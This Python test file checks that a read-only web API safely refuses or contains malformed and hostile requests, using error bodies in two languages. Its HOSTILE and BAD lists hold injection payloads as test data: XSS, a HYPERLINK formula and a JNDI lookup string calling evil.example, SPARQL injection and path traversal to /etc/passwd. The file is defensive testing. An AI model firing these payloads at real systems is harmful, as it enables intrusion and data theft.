"""Whatever a stranger sends to `/api` is understood or refused, and never breaks anything."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from api.application import create_app
from tests.api.conftest import Client

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example")',
    "' } UNION { ?s ?p ?o } #",
    "\\u0022 . ?s ?p ?o",
    "name:* OR *:* AND (((",
    "/.*.*.*.*.*/",
    "title:[* TO *] ^99999 ~100",
    "../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "\u202e\u2066 mirror",
    "\U0001f980" * 40,
    "a\u0301" * 70,
    ",,,,,",
    "-",
]

BAD = [
    "/api/claims?page=0",
    "/api/claims?page=-1",
    "/api/claims?page=1.5",
    "/api/claims?page=NaN",
    "/api/claims?page=1e400",
    "/api/claims?page=Infinity",
    "/api/claims?page=%C2%B2",
    "/api/claims?page=" + "9" * 400,
    "/api/claims?page=99999",
    "/api/claims?size=0",
    "/api/claims?size=1001",
    "/api/claims?size=1e3",
    "/api/claims?sort=",
    "/api/claims?sort=nothing",
    "/api/claims?q=",
    "/api/claims?q=%00",
    "/api/claims?q=%0a",
    "/api/claims?q=%ED%A0%80",
    "/api/claims?q=%FF",
    "/api/claims?q=" + "a" * 501,
    "/api/claims?q=a&q=b",
    "/api/claims?status=percu&status=mesure",
    "/api/claims?nothing=1",
    "/api/claims?%00=1",
    "/api/claims?status=percu%7D%20UNION%20%7B%20%3Fs%20%3Fp%20%3Fo",
    "/api/claims?subject=organisation/..%2f..",
    "/api/claims?subject=%3Chttp://evil.example%3E",
    "/api/claims?" + "&".join(f"a{n}=1" for n in range(50)),
    "/api/alliances?from=MMXV",
    "/api/search",
    "/api/search?q=x&kind=a&kind=b",
    "/api/search?q=x&language=de",
    "/api/evidence?rows=nothing",
    "/api/evidence?rows=domain&rows=actor",
    "/api/compare",
    "/api/graph",
    "/api/graph?centre=nobody",
    "/api/graph?centre=impact/confiance&steps=5",
    "/api/graph?centre=impact/confiance&cap=301",
    "/api/paths?from=impact/confiance",
    "/api/paths?from=impact/confiance&to=impact/confiance",
    "/api/paths?from=impact/confiance&to=impact/innovation&limit=11",
    "/api/network/metrics?network=nothing",
    "/api/network/metrics?measure=nothing",
    "/api/versions/difference",
]
ABSENT = [
    "/api/nothing",
    "/api/",
    "/api/claims/",
    "/api/claims.xml",
    "/api/claims/nobody",
    "/api/claims/nobody.ttl",
    "/api/questions/nothing",
    "/api/views/NOTHING",
    "/api/openapi",
    "/api//claims",
]


@pytest.mark.parametrize("path", BAD)
def test_a_bad_request_says_what_and_how_to_mend_it_in_both_languages(
    path: str, rest: Client
) -> None:
    told = {}
    for language in ("fr", "en"):
        answer = rest.ask("GET", path, accept_language=language)
        assert answer.status_code == 400, answer.text
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.headers["cache-control"] == "no-store"
        body = answer.json()
        assert set(body) == {"type", "title", "status", "detail", "instance"}
        assert body["instance"].startswith("urn:incident:")
        told[language] = (body["title"], body["detail"])
    assert told["fr"][0] != told["en"][0]


@pytest.mark.parametrize("path", ABSENT)
def test_what_is_not_there_is_404_for_programs_and_browsers_alike(path: str, rest: Client) -> None:
    for accept in ("application/json", "text/html"):
        answer = rest.ask("GET", path, accept=accept)
        assert answer.status_code == 404
        assert answer.headers["content-type"] == "application/problem+json"


def test_an_address_that_is_too_long_is_414(rest: Client) -> None:
    answer = rest.ask("GET", "/api/claims?q=" + "a" * 9000)
    assert (answer.status_code, answer.headers["content-type"]) == (414, "application/problem+json")


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_nothing_can_be_written(method: str, rest: Client) -> None:
    answer = rest.ask(method, "/api/claims")
    assert answer.status_code == 405
    assert answer.headers["content-type"] == "application/problem+json"
    assert "GET" in answer.headers["allow"]


@pytest.mark.parametrize("path", ["/api/claims?q=\udc80", "/api/cases/\ud800", "/api/\udfff"])
def test_half_a_character_in_a_path_that_was_not_read_is_no_fault_of_ours(
    path: str, corpus_root: Path
) -> None:
    place, _, query = path.partition("?")
    sent = _asked(corpus_root, place, query.encode("utf-8", "surrogatepass"))
    assert sent[0]["status"] in {400, 404}
    assert json.loads(sent[1]["body"])["status"] == sent[0]["status"]


@pytest.mark.parametrize(
    ("query", "told"),
    [(b'q=a>; rel="evil"', "q=a%3E;%20rel=%22evil%22"), ("q=日".encode(), "q=%E6%97%A5"),
     (b"q=a%3E", "q=a%3E")],
)  # fmt: skip
def test_no_sign_of_an_address_ends_the_link_it_stands_in(
    query: bytes, told: str, corpus_root: Path
) -> None:
    sent = _asked(corpus_root, "/api/claims", query)
    assert sent[0]["status"] == 200
    (link,) = (value.decode() for name, value in sent[0]["headers"] if name == b"link")
    assert f'</api/claims.json?{told}>; rel="describedby"' in link
    assert json.loads(sent[1]["body"])["links"]["self"] == f"/api/claims?{told}"


def _asked(root: Path, place: str, query: bytes) -> list[dict[str, Any]]:
    """Ask an application for an address that no client of ours would send."""
    app = create_app(root)
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
        "scheme": "http", "path": place, "root_path": "", "headers": [], "query_string": query,
        "server": ("test", 80), "client": ("test", 1),
    }  # fmt: skip
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    asyncio.run(app(scope, receive, send))
    return sent


def test_no_data_published_is_503(empty: Client) -> None:
    answer = empty.ask("GET", "/api/claims")
    assert (answer.status_code, answer.headers["content-type"]) == (503, "application/problem+json")
    assert "alliances" not in answer.json().get("trace", "")


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_asked_for_is_only_a_text(text: str, rest: Client) -> None:
    for path in ("/api/claims?q=", "/api/search?q=", "/api/graph?centre=", "/api/claims?status="):
        answer = rest.ask("GET", path + quote(text[:150]))
        assert answer.status_code in {200, 400}
        assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
        assert answer.headers["x-content-type-options"] == "nosniff"
        json.loads(answer.content)
